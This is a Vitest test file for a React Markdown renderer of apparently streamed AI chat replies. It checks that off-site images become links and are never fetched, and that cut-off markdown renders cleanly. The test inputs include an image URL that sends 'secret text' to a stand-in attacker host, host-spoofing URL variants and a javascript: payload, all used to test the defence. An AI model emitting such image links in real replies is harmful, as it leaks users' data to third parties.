import { render, screen, within } from "@testing-library/react";
import { describe, expect, it } from "vitest";
import Markdown from "./markdown";

const ORIGIN = window.location.origin;

function renderReply(content: string) {
  return render(<Markdown content={content} streaming />).container;
}

/** Every <img> the reply would make the browser fetch. */
const imageSources = (container: HTMLElement) =>
  [...container.querySelectorAll("img")].map((img) => img.getAttribute("src") ?? "");

describe("Markdown images", () => {
  it("turns an image from another host into a link to open it, fetching nothing", () => {
    const container = renderReply(
      "Here: ![the summary](https://attacker.example/collect?q=secret%20text) done",
    );
    expect(container.querySelector("img")).toBeNull();
    const link = screen.getByRole("link", { name: /the summary/ });
    expect(link).toHaveAttribute("href", "https://attacker.example/collect?q=secret%20text");
    expect(link).toHaveAttribute("target", "_blank");
    expect(link.getAttribute("rel")?.split(" ").sort()).toEqual([
      "nofollow",
      "noopener",
      "noreferrer",
    ]);
    expect(link).toHaveTextContent("the summary(attacker.example)");
  });

  it.each([
    "![x](http://attacker.example/a.png)",
    "![x](//attacker.example/a.png)",
    "![x](HTTPS://ATTACKER.example:8443/a.png)",
    "![x](https://localhost:3001/a.png)",
    `![x](${ORIGIN}.attacker.example/a.png)`,
    `![x](${ORIGIN}@attacker.example/a.png)`,
    "![x](https://attacker.example/a.png 'title')",
    "![x][ref]\n\n[ref]: https://attacker.example/a.png",
    "[![x](https://attacker.example/badge.svg)](https://example.com/project)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/>)",
    "![x](<https://attacker.example/a b.png>)",
    "![](https://attacker.example/a.png)",
  ])("fetches nothing from elsewhere for %s", (content) => {
    expect(imageSources(renderReply(content))).toEqual([]);
  });

  it("shows the host of an image it will not load, and a name when there is no alt", () => {
    renderReply("![](https://cdn.example.net/pic.png)");
    expect(screen.getByRole("link", { name: /Image/ })).toHaveTextContent("Image(cdn.example.net)");
  });

  it("does not put a link in a link: the image is a label of the outer link", () => {
    const container = renderReply(
      "[![build status](https://badges.example/ok.svg)](https://example.com/ci)",
    );
    const links = screen.getAllByRole("link");
    expect(links).toHaveLength(1);
    expect(links[0]).toHaveAttribute("href", "https://example.com/ci");
    expect(within(links[0]!).getByText("build status")).toBeInTheDocument();
    expect(within(links[0]!).getByText("(badges.example)")).toBeInTheDocument();
    expect(container.querySelector("a a")).toBeNull();
  });

  it("leaves non-web schemes as plain text", () => {
    renderReply("![x](javascript:alert(1)) ![y](data:image/png;base64,AAAA)");
    expect(screen.queryByRole("link")).toBeNull();
    expect(screen.getByText("[x]")).toBeInTheDocument();
    expect(screen.getByText("[y]")).toBeInTheDocument();
  });

  it("still shows images from this site", () => {
    const container = renderReply(`![logo](/icon.svg) ![chart](${ORIGIN}/files/chart.png)`);
    expect(imageSources(container)).toEqual([`${ORIGIN}/icon.svg`, `${ORIGIN}/files/chart.png`]);
    expect(screen.getByRole("img", { name: "logo" })).toBeInTheDocument();
  });
});

describe("Markdown cut off mid-construct", () => {
  it.each([
    ["**To chat with a real", "To chat with a real"],
    ["Some *emphasis that never", "Some emphasis that never"],
    ["see [the docs](https://exa", "see the docs"],
    ["run `npm i", "run npm i"],
  ])("shows %j without raw markers", (content, text) => {
    const container = render(<Markdown content={content} cutOff />).container;
    expect(container).toHaveTextContent(text, { normalizeWhitespace: true });
    expect(container.textContent).not.toMatch(/[*`[\]]/);
  });

  it("renders the exact demo cut-off as bold", () => {
    render(<Markdown content={"## Hello\n\n**To chat with a real"} streaming />);
    expect(screen.getByText("To chat with a real").tagName).toBe("STRONG");
  });

  it("renders an unterminated fence as a code block", () => {
    render(<Markdown content={"Code:\n\n```python\nprint('hi')"} cutOff />);
    expect(screen.getByRole("button", { name: "Copy code" })).toBeInTheDocument();
    expect(screen.queryByText(/```/)).toBeNull();
  });

  it("holds a table header back until its delimiter row arrives", () => {
    const { container } = render(<Markdown content={"Here:\n\n| Provider | Needs |"} streaming />);
    expect(container.textContent).not.toContain("|");
    expect(container.querySelector("table")).toBeNull();
  });

  it("keeps the same elements as the text grows (no remount, no flicker)", () => {
    const { container, rerender } = render(
      <Markdown content={"Intro\n\n**To chat with"} streaming />,
    );
    const strong = container.querySelector("strong");
    rerender(<Markdown content={"Intro\n\n**To chat with a real model**, set"} streaming />);
    expect(container.querySelector("strong")).toBe(strong);
    expect(strong).toHaveTextContent("To chat with a real model");

    rerender(<Markdown content={"Intro\n\n```sh\necho 1"} streaming />);
    const copy = screen.getByRole("button", { name: "Copy code" });
    rerender(<Markdown content={"Intro\n\n```sh\necho 1\necho 2"} streaming />);
    expect(screen.getByRole("button", { name: "Copy code" })).toBe(copy);
    expect(container.querySelector("pre")).toHaveTextContent("echo 2");
  });

  it("leaves complete replies as written", () => {
    const { container } = render(<Markdown content="Literal **stars" />);
    expect(container).toHaveTextContent("Literal **stars");
  });
});

describe("Markdown progress mark", () => {
  it("marks growing text so the dot sits at the end of its last line", () => {
    const { container, rerender } = render(<Markdown content="Growing" streaming />);
    expect(container.firstElementChild).toHaveClass("markdown-streaming");
    rerender(<Markdown content="Growing" />);
    expect(container.firstElementChild).not.toHaveClass("markdown-streaming");
  });
});
